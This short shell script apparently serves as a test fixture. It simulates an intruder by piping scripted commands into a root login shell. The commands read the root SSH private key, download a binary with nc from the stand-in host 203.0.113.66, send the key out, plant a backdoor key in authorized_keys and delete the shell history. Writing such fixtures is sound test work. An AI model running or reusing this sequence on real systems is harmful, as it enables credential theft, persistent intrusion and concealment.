# SPDX-License-Identifier: Apache-2.0
# Somebody at a terminal: commands are typed, one after the other, with time to read the answers.
while ! test -e /tmp/go; do sleep 0.1; done
typed() {
	for line in /bin/whoami '/bin/ls -la /root' '/bin/cat /root/.ssh/id_ed25519' '/bin/nc 203.0.113.66 8001 </dev/null >/tmp/sync; /bin/chmod 755 /tmp/sync' \
		'/tmp/sync 203.0.113.66 4444 /root/.ssh/id_ed25519' 'echo "ssh-ed25519 AAAA insider" >>/root/.ssh/authorized_keys' \
		'/bin/rm -f /root/.ash_history' exit; do
		sleep 0.2
		echo "$line"
	done
}
typed | /usr/bin/login /bin/sh
